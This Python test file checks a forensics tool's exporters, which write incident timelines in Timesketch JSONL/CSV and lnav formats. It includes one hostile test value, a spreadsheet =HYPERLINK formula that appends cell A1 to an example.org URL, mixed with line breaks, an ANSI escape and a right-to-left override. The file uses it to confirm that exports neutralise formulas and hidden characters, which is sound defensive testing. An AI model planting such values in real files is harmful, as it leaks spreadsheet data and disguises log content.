"""The timeline in the formats of other tools: the fields they demand, and nothing that evidence could make of them."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from forensics import audit, load_evidence
from forensics.correlator.timeline import timeline
from forensics.model.finding import Report
from forensics.writers.lnav import lnav_format, write_lnav
from forensics.writers.timesketch import FIELDS, write_timesketch_csv, write_timesketch_jsonl
from tests.support.command import forensics
from tests.support.journals import sample

SAMPLES = Path(__file__).parent.parent.parent / "samples"
HOSTILE = '=HYPERLINK("https://example.org?"&A1)\r\n,"x",\x1b[31m\u202e'


def told(sample: str = "every-verdict") -> tuple[Report, pl.DataFrame]:
    evidence = load_evidence([str(SAMPLES / sample)])
    report = audit(evidence)
    return report, timeline(evidence, report)


def hostile() -> tuple[Report, pl.DataFrame]:
    report, facts = told()
    return report, facts.with_columns(
        pl.lit(HOSTILE).alias(name) for name in ("text", "job_name", "job_id", "run_id", "operation", "status", "event")
    )


def events_of(report: Report, facts: pl.DataFrame) -> list[dict[str, Any]]:
    return [json.loads(line) for line in write_timesketch_jsonl(report, facts).splitlines()]


def cells_of(report: Report, facts: pl.DataFrame) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(write_timesketch_csv(report, facts), newline=""), strict=True))


def test_timesketch_gets_its_mandatory_fields() -> None:
    report, facts = told()
    events = events_of(report, facts)
    assert len(events) == facts.height
    for event in events:
        assert all(isinstance(event[name], str) and event[name] for name in ("message", "datetime", "timestamp_desc"))
        at = datetime.strptime(event["datetime"], "%Y-%m-%dT%H:%M:%S.%f%z")
        assert event["datetime"].endswith("+00:00")
        assert datetime(1970, 1, 1, tzinfo=UTC) + timedelta(microseconds=event["timestamp"]) == at
        assert event["data_type"].startswith("openclaw:")
        assert list(event) == list(FIELDS)
        assert all(isinstance(tag, str) for tag in event["tag"])


NOTHING = {
    "",
    "#N/A",
    "#N/A N/A",
    "#NA",
    "-1.#IND",
    "-1.#QNAN",
    "-NaN",
    "-nan",
    "1.#IND",
    "1.#QNAN",
    "<NA>",
    "N/A",
    "NA",
}
NOTHING |= {"NULL", "NaN", "None", "n/a", "nan", "null"}
"""What the reader of CSV takes for an empty cell, and leaves out."""


def as_timesketch_reads(text: str, ending: str) -> list[dict[str, Any]]:
    """Read a file as Timesketch does when it is uploaded; what it would refuse or leave out is an error here.

    ``read_and_validate_jsonl`` and ``read_and_validate_csv`` of Timesketch 20261014 itself were run on the timelines of
    the samples, and on one filled with hostile text: they gave as many events as there are lines, each field as it was
    written, and the same from both files (but for the mark before what a spreadsheet would take for a formula).
    ``ImportStreamer.add_file`` of its import client 20261014 took both likewise.
    This does what they do, for their packages would be heavy to install here.
    """
    if ending == "jsonl":
        events = [json.loads(line) for line in text.splitlines()]
    else:
        table = csv.DictReader(io.StringIO(text, newline=""), strict=True)
        assert {"message", "datetime", "timestamp_desc"} <= set(table.fieldnames or ())
        assert len(set(table.fieldnames or ())) == len(table.fieldnames or ())
        rows = [{name: cell for name, cell in row.items() if cell not in NOTHING} for row in table]
        numbers = ("timestamp", "source_line")
        events = [row | {name: int(row[name]) for name in numbers if name in row} for row in rows]
        for event in events:
            assert isinstance(event["tag"], str)
            event["tag"] = json.loads(event["tag"])
    for event in events:
        assert all(event[name] for name in ("message", "datetime", "timestamp_desc"))
        at = datetime.fromisoformat(event["datetime"])
        assert at.tzinfo is not None
        assert 1700 <= at.year <= 9999
        assert event["timestamp"] == (at - datetime(1970, 1, 1, tzinfo=UTC)) // timedelta(microseconds=1)
        assert not [name for name in event if name.startswith("_")], "it keeps such names to itself"
        assert all(isinstance(tag, str) for tag in event["tag"])
    return [{name: value for name, value in event.items() if value is not None} for event in events]


@pytest.mark.parametrize("sample", ["every-verdict", "real-lost-write", "founding-stand-in"])
def test_timesketch_reads_the_same_from_both_files(sample: str) -> None:
    report, facts = told(sample)
    lines = as_timesketch_reads(write_timesketch_jsonl(report, facts), "jsonl")
    cells = as_timesketch_reads(write_timesketch_csv(report, facts), "csv")
    assert len(lines) == facts.height
    assert lines == cells


def test_timesketch_leaves_no_hostile_event_out() -> None:
    report, facts = hostile()
    for write, ending in ((write_timesketch_jsonl, "jsonl"), (write_timesketch_csv, "csv")):
        assert len(as_timesketch_reads(write(report, facts), ending)) == facts.height


@pytest.mark.parametrize("text", [None, "", "null", "NA", " "])
def test_an_event_always_has_a_message(text: str | None) -> None:
    """An empty one would be left out, and so would one that says nothing to whom reads the CSV."""
    report, facts = told()
    silent = facts.with_columns(pl.lit(text, pl.String).alias("text"))
    for write, ending in ((write_timesketch_jsonl, "jsonl"), (write_timesketch_csv, "csv")):
        events = as_timesketch_reads(write(report, silent), ending)
        assert len(events) == facts.height
        assert all(event["message"].strip() for event in events)


def test_timesketch_gets_the_verdict_with_its_place() -> None:
    report, facts = told("real-lost-write")
    judged = [event for event in events_of(report, facts) if event["timestamp_desc"] == "Task Judged"]
    assert [(event["verdict"], event["confidence"], event["tag"][0]) for event in judged] == [
        (finding.verdict, finding.confidence, finding.verdict) for finding in sorted(report.findings, key=lost_at)
    ]
    assert {event["source_table"] for event in judged} == {"task_runs"}
    assert all(event["source_file"].endswith("runs.sqlite") and event["source_line"] for event in judged)


@pytest.mark.parametrize("form", ["text", "json", "timesketch-jsonl", "timesketch-csv", "lnav"])
def test_every_format_tells_of_corrections(form: str, tmp_path: Path) -> None:
    registry = sample(tmp_path, "real-lost-write")
    journal = registry.fix("runs.backup.sqlite", {"97b96ec8-5199-4df1-9cb1-1d65e1071d5c": {"status": "succeeded"}})
    result = forensics("timeline", tmp_path / "real-lost-write", "-f", form)
    assert (result.returncode, result.stderr) == (0, "")
    assert "task row corrected by fix from lost to succeeded (false_lost)" in result.stdout
    assert "backups/runs.backup.sqlite.journal.json" in result.stdout
    assert journal.exists()


def lost_at(finding: Any) -> Any:
    return finding.lost_at


@pytest.mark.parametrize("source", [told, hostile])
def test_csv_says_what_json_lines_say(source: Any) -> None:
    report, facts = source()
    events, cells = events_of(report, facts), cells_of(report, facts)
    for event, cell in zip(events, cells, strict=True):
        for name in FIELDS:
            value = event[name]
            wanted = json.dumps(value) if name == "tag" else "" if value is None else str(value)
            assert cell[name].removeprefix("'") == wanted


def test_csv_keeps_to_its_rules() -> None:
    text = write_timesketch_csv(*hostile())
    lines = text.split("\r\n")
    assert lines[0] == ",".join(FIELDS)
    assert lines[-1] == ""
    assert "\n" not in "".join(lines)
    assert "\r" not in "".join(lines)


def test_no_cell_is_a_formula() -> None:
    report, facts = hostile()
    values = [value for cell in cells_of(report, facts) for value in cell.values()]
    assert any(value.startswith("'=HYPERLINK") for value in values)
    assert [value for value in values if value.lstrip()[:1] in {"=", "+", "-", "@"}] == []


@pytest.mark.parametrize("writer", [write_timesketch_jsonl, write_lnav])
def test_evidence_breaks_no_line_and_hides_nothing(writer: Any) -> None:
    report, facts = hostile()
    lines = writer(report, facts).splitlines()
    assert len(lines) == facts.height
    for line in lines:
        assert not {"\x1b", "\u202e", "\n", "\r"} & {sign for value in json.loads(line).values() for sign in str(value)}


def test_a_fact_without_time_is_left_out_of_formats_that_need_one() -> None:
    report, facts = told("real-lost-write")
    untimed = facts.with_columns(pl.when(pl.col("kind") != "verdict").then("at").alias("at"))
    verdicts = facts.filter(kind="verdict").height
    assert verdicts > 0
    kept = facts.height - verdicts
    assert [len(write(report, untimed).splitlines()) for write in (write_timesketch_jsonl, write_lnav)] == [kept, kept]


@pytest.mark.parametrize("form", ["text", "json", "timesketch-jsonl", "timesketch-csv", "lnav"])
def test_the_same_input_gives_the_same_bytes(form: str, tmp_path: Path) -> None:
    parts = [SAMPLES / "every-verdict" / part for part in ("state", "logs", "tasks-list.json")]
    first, second = tmp_path / "first", tmp_path / "second"
    for output, paths in ((first, parts), (second, parts[::-1])):
        result = forensics("timeline", *paths, "-f", form, "-o", output)
        assert (result.returncode, result.stderr) == (0, "")
    assert first.read_bytes() == second.read_bytes()


def test_the_format_of_lnav_names_every_field_of_its_log() -> None:
    fields = {name for line in write_lnav(*told()).splitlines() for name in json.loads(line)}
    known = json.loads(lnav_format())["forensics_log"]
    assert fields - {known["timestamp-field"]} <= set(known["value"])
    assert {known[name] for name in ("timestamp-field", "level-field", "body-field", "opid-field")} <= fields


def test_lnav_is_told_once_what_an_operation_is_about() -> None:
    report, facts = told()
    about: dict[str, list[str]] = {}
    for line in write_lnav(report, facts).splitlines():
        entry = json.loads(line)
        if "opid" in entry:
            about.setdefault(entry["opid"], []).extend([entry["about"]] if "about" in entry else [])
        else:
            assert "about" not in entry
    assert {len(texts) for texts in about.values()} == {1}
    for finding in report.findings:
        confidence = f" ({finding.confidence})" if finding.confidence else ""
        assert about[finding.run_id or finding.task_id] == [f"{finding.job_name}: {finding.verdict}{confidence}"]
    for restart in report.restarts:
        assert about[f"restart:{restart.id}"] == [f"restart {restart.id} ({restart.kind})"]


@pytest.mark.parametrize("name", ["gateway state", "gateway other", "no known gateway"])
def test_no_operation_bears_the_text_that_a_line_of_lnav_ends_with(name: str) -> None:
    """The lnav of Debian 13 stops where one does."""
    report, facts = told()
    named = facts.with_columns(pl.lit(name).alias("operation"), pl.lit(None, pl.String).alias("job_name"))
    entries = [json.loads(line) for line in write_lnav(report, named).splitlines()]
    assert {list(entry)[-1] for entry in entries} == {"gateway"}
    assert {entry["opid"] for entry in entries} == {f"operation {name}"}
    assert {entry["gateway"] for entry in entries} == {"gateway state"}


def lnav(folder: Path, *arguments: str | Path) -> subprocess.CompletedProcess[str]:
    home = folder / "home"
    home.mkdir(exist_ok=True)
    env = dict(os.environ) | {"HOME": str(home), "XDG_CONFIG_HOME": str(home), "TERM": "dumb"}
    command = ["lnav", "-I", str(folder / "config"), *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, check=False, env=env, stdin=subprocess.DEVNULL)


@pytest.fixture
def opened(tmp_path: Path) -> Path:
    """Give a folder with the log and, in a configuration of its own, the format as the command writes them."""
    if shutil.which("lnav") is None:
        pytest.skip("lnav is not installed")
    formats = tmp_path / "config" / "formats" / "installed"
    formats.mkdir(parents=True)
    result = forensics(
        *("timeline", SAMPLES / "every-verdict", "-f", "lnav", "-o", tmp_path / "incident.log"),
        *("--lnav-format", formats / "forensics_log.json"),
    )
    assert (result.returncode, result.stderr) == (0, "")
    return tmp_path


def test_lnav_takes_the_format(opened: Path) -> None:
    checked = lnav(opened, "-C")
    assert (checked.returncode, checked.stdout) == (0, "")


def test_lnav_reads_every_line_with_its_time_level_and_operation(opened: Path) -> None:
    query = ";select log_time, log_level, opid, log_body, verdict from forensics_log"
    shown = lnav(opened, "-n", "-N", "-q", "-c", query, "-c", ":write-jsonlines-to -", opened / "incident.log")
    rows = [json.loads(line) for line in shown.stdout.splitlines()]
    written = [json.loads(line) for line in (opened / "incident.log").read_text("utf-8").splitlines()]
    assert len(rows) == len(written) > 0
    for row, entry in zip(rows, written, strict=True):
        assert row["log_time"] == entry["timestamp"][:23].replace("T", " ")
        assert row["log_level"] == entry["level"]
        assert (row["opid"], row["verdict"]) == (entry.get("opid"), entry.get("verdict"))
        assert row["log_body"] == entry["body"]


_LASTED = re.compile(r"(?:(\d+)d)?(?:(\d+)h)?(?:(\d+)m)?(?:(\d+)s)?(\d{3})?")


def seconds_of(text: str) -> float:
    """Give the seconds of a duration as lnav prints it: 5m29s994, 16h00m02s, 010."""
    days, hours, minutes, seconds, ms = (int(part or 0) for part in _LASTED.fullmatch(text).groups())  # type: ignore[union-attr]
    return days * 86_400 + hours * 3600 + minutes * 60 + seconds + ms / 1000


def test_lnav_draws_one_bar_for_each_run_and_restart_from_its_first_fact_to_its_last(opened: Path) -> None:
    version = re.search(r"(\d+)\.(\d+)", lnav(opened, "-V").stdout)
    if version is None or (int(version[1]), int(version[2])) < (0, 12):
        pytest.skip("this lnav has no timeline view")
    shown = lnav(
        opened, "-n", "-N", "-c", ":switch-to-view timeline", "-c", ":write-view-to -", opened / "incident.log"
    )
    report, facts = told()
    bars = (
        facts.filter(pl.col("operation").is_not_null())
        .group_by("operation")
        .agg((pl.col("at").max() - pl.col("at").min()).dt.total_milliseconds().alias("lasted_ms"))
    )
    rows = {part: line for line in shown.stdout.splitlines() for part in line.split() if ":" in part or len(part) == 36}
    for operation, lasted_ms in bars.rows():
        duration = rows[operation].split()[0] if lasted_ms else ""
        assert abs(seconds_of(duration) - lasted_ms / 1000) <= 1, rows[operation]
    lost = [finding for finding in report.findings if finding.run_id]
    assert lost
    assert all(f"{finding.job_name}: {finding.verdict}" in rows[finding.run_id or ""] for finding in lost)
    extra = [line for line in shown.stdout.splitlines() if not any(name in line for name in bars["operation"])]
    assert [line for line in extra if "gateway state" not in line and line.strip()] == []
